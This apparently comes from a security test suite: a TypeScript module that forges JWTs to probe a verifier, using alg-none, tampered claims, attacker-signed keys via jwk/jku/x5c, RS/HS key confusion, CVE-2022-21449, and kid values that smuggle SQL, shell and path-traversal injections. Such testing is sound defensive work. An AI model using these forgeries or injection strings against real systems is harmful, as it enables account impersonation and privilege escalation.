import { createHmac, createSign, generateKeyPairSync, type KeyObject } from 'node:crypto';
import type { Attack } from '../../engine/attack.ts';
import { type Claims, claimsOf, headerOf, part } from '../../target/signer.ts';
import { insideOf, type World } from '../../target/world.ts';
import { tokenAttack, type TokenAttack } from './token-attack.ts';

/* Tokens that nobody signed, or somebody else. */

const foreign = generateKeyPairSync('rsa', { modulusLength: 2048 });
const foreignElliptic = generateKeyPairSync('ec', { namedCurve: 'P-256' });
const foreignJwk = {
  ...foreign.publicKey.export({ format: 'jwk' }),
  kid: 'attack',
  use: 'sig',
  alg: 'RS256',
};

/** The genuine token with another header, signed by a key that the attacker has made. */
function signedByForeign({ tokenA }: World, header: Claims = {}, claims: Claims = {}): string {
  const signed = `${part({ ...headerOf(tokenA), ...header })}.${part({ ...claimsOf(tokenA), ...claims })}`;
  return `${signed}.${signature(signed, foreign.privateKey)}`;
}

function signature(text: string, key: KeyObject, hash = 'RSA-SHA256'): string {
  const options = key.asymmetricKeyType === 'ec' ? { key, dsaEncoding: 'ieee-p1363' as const } : key;
  return createSign(hash).update(text).sign(options).toString('base64url');
}

function unsigned({ tokenA }: World, alg: string, tail = ''): string {
  return `${part({ ...headerOf(tokenA), alg })}.${part(claimsOf(tokenA))}.${tail}`;
}

/** With something public as the secret of an HMAC: the verifier that takes `alg` at its word agrees. */
function byHmac({ tokenA }: World, secret: string | Buffer, alg = 'HS256', header: Claims = {}): string {
  const signed = `${part({ ...headerOf(tokenA), ...header, alg })}.${part(claimsOf(tokenA))}`;
  return `${signed}.${createHmac(alg.replace('HS', 'sha'), secret).update(signed).digest('base64url')}`;
}

const publicPem = (world: World): string => insideOf(world).signer.publicPem;

const ATTACKS: readonly TokenAttack[] = [
  ...['none', 'None', 'NONE', 'nOnE', ''].map((alg) => ({
    id: `P1.4-alg-${alg || 'empty'}`,
    name: `A token without signature says alg "${alg}".`,
    forge: (world: World) => unsigned(world, alg),
  })),
  {
    id: 'P1.4-alg-none-old-signature',
    name: 'alg none keeps the signature of a good token.',
    forge: (world) => unsigned(world, 'none', world.tokenA.split('.')[2]),
  },
  {
    id: 'P1.4-alg-missing',
    name: 'The header names no algorithm at all.',
    forge: ({ tokenA }) => `${part({ typ: 'at+jwt' })}.${part(claimsOf(tokenA))}.${tokenA.split('.')[2]}`,
  },
  {
    id: 'P1.4-signature-stripped',
    name: 'A good token comes without its signature.',
    forge: ({ tokenA }) => tokenA.replace(/[^.]*$/, ''),
  },
  {
    id: 'P1.4-signature-zeros',
    name: 'The signature is zeros of the right length.',
    forge: ({ tokenA }) => tokenA.replace(/[^.]*$/, Buffer.alloc(256).toString('base64url')),
  },
  {
    id: 'P1.4-signature-cut',
    name: 'The signature has lost its last bytes.',
    forge: ({ tokenA }) => tokenA.slice(0, -8),
  },
  {
    id: 'P1.4-signature-flipped',
    name: 'One bit of the signature is another.',
    forge: ({ tokenA }) => `${tokenA.slice(0, -20)}${tokenA.at(-20) === 'A' ? 'B' : 'A'}${tokenA.slice(-19)}`,
  },
  {
    id: 'P1.4-signature-of-another-token',
    name: 'The signature comes from the token of somebody else.',
    forge: ({ tokenA, tokenB }) => tokenA.replace(/[^.]*$/, tokenB.split('.')[2] ?? ''),
  },
  {
    id: 'P1.4-payload-modified',
    name: 'The claims were changed after they were signed: another tenant.',
    forge: ({ tokenA }) => withClaims(tokenA, { tenant: 'globex' }),
  },
  {
    id: 'P1.4-payload-more-scopes',
    name: 'The claims were changed after they were signed: more scopes, and a role.',
    forge: ({ tokenA }) => withClaims(tokenA, { scope: 'admin customers:read', roles: ['administrator'] }),
  },
  {
    id: 'P1.4-payload-later-end',
    name: 'The claims were changed after they were signed: a later end.',
    forge: ({ tokenA }) => withClaims(tokenA, { exp: Number(claimsOf(tokenA)['exp']) + 60 }),
  },
  {
    id: 'P1.4-foreign-key',
    name: 'A key of the attacker signs, under the key id of the issuer.',
    forge: (world) => signedByForeign(world),
  },
  {
    id: 'P1.4-foreign-key-unknown-kid',
    name: 'A key of the attacker signs, under an id of its own.',
    forge: (world) => signedByForeign(world, { kid: 'attack' }),
  },
  {
    id: 'P1.4-foreign-key-without-kid',
    name: 'A key of the attacker signs, under no id.',
    forge: (world) => signedByForeign(world, { kid: undefined }),
  },
  {
    id: 'P1.4-embedded-jwk',
    name: 'The header brings the key of the attacker along (jwk).',
    forge: (world) => signedByForeign(world, { jwk: foreignJwk, kid: 'attack' }),
  },
  ...['jku', 'x5u'].map((member) => ({
    id: `P1.4-${member}-elsewhere`,
    name: `The header says where the key of the attacker lies (${member}).`,
    forge: (world: World) =>
      signedByForeign(world, { [member]: 'http://127.0.0.1:9/keys.json', kid: 'attack' }),
  })),
  {
    id: 'P1.4-x5c-own-certificate',
    name: 'The header brings a certificate of the attacker along (x5c).',
    forge: (world) =>
      signedByForeign(world, {
        x5c: [foreign.publicKey.export({ format: 'der', type: 'spki' }).toString('base64')],
      }),
  },
  ...Object.entries({
    traversal: '../../../../dev/null',
    sql: "x' UNION SELECT 'attack' -- ",
    command: '|sleep 3',
    url: 'http://127.0.0.1:9/key',
    prototype: '__proto__',
    long: 'k'.repeat(3000),
  }).map(([what, kid]) => ({
    id: `P1.4-kid-${what}`,
    name: `The key id is an injection: ${what}.`,
    forge: (world: World) => signedByForeign(world, { kid }),
  })),
  {
    id: 'P1.4-hs256-empty-secret',
    name: 'An HMAC under an empty secret.',
    forge: (world) => byHmac(world, ''),
  },
  {
    id: 'P1.4-hs256-kid-dev-null',
    name: 'An HMAC under an empty secret, and a key id that leads to an empty file.',
    forge: (world) => byHmac(world, '', 'HS256', { kid: '../../../../dev/null' }),
  },
  ...['secret', 'changeme'].map((secret) => ({
    id: `P1.4-hs256-${secret}`,
    name: `An HMAC under the secret "${secret}".`,
    forge: (world: World) => byHmac(world, secret),
  })),
  ...['HS256', 'HS384', 'HS512'].map((alg) => ({
    id: `P1.4-${alg.toLowerCase()}-public-key`,
    name: `The public key of the issuer, as PEM, is the secret of an HMAC (${alg}).`,
    needs: ['signing-key'] as const,
    forge: (world: World) => byHmac(world, publicPem(world), alg),
  })),
  {
    id: 'P1.4-hs256-public-jwk',
    name: 'The modulus of the public key is the secret of an HMAC.',
    needs: ['signing-key'],
    forge: (world) => byHmac(world, insideOf(world).signer.modulus),
  },
  {
    id: 'P1.4-alg-es256-foreign',
    name: 'An elliptic key of the attacker signs under the id of the RSA key.',
    forge: ({ tokenA }) => {
      const signed = `${part({ ...headerOf(tokenA), alg: 'ES256' })}.${part(claimsOf(tokenA))}`;
      return `${signed}.${signature(signed, foreignElliptic.privateKey, 'SHA256')}`;
    },
  },
  {
    id: 'P1.4-es256-psychic',
    name: 'An ES256 signature of r = s = 0 (CVE-2022-21449).',
    forge: ({ tokenA }) =>
      `${part({ ...headerOf(tokenA), alg: 'ES256' })}.${part(claimsOf(tokenA))}.${Buffer.alloc(64).toString('base64url')}`,
  },
  {
    id: 'P1.4-alg-rs1',
    name: 'The issuer’s key signs with SHA-1, which is not on the list.',
    needs: ['signing-key'],
    genuine: (world) => insideOf(world).signer.token(),
    forge: (world) => insideOf(world).signer.token({}, { alg: 'RS1' }, 'RSA-SHA1'),
  },
  {
    id: 'P1.4-alg-mismatch',
    name: 'The header says RS512, the signature is one of RS256.',
    needs: ['signing-key'],
    genuine: (world) => insideOf(world).signer.token(),
    forge: (world) => insideOf(world).signer.token({}, { alg: 'RS512' }),
  },
];

function withClaims(token: string, claims: Claims): string {
  const [header, , tail] = token.split('.');
  return `${header}.${part({ ...claimsOf(token), ...claims })}.${tail}`;
}

export const TOKEN_SIGNATURE: readonly Attack[] = ATTACKS.map(tokenAttack);
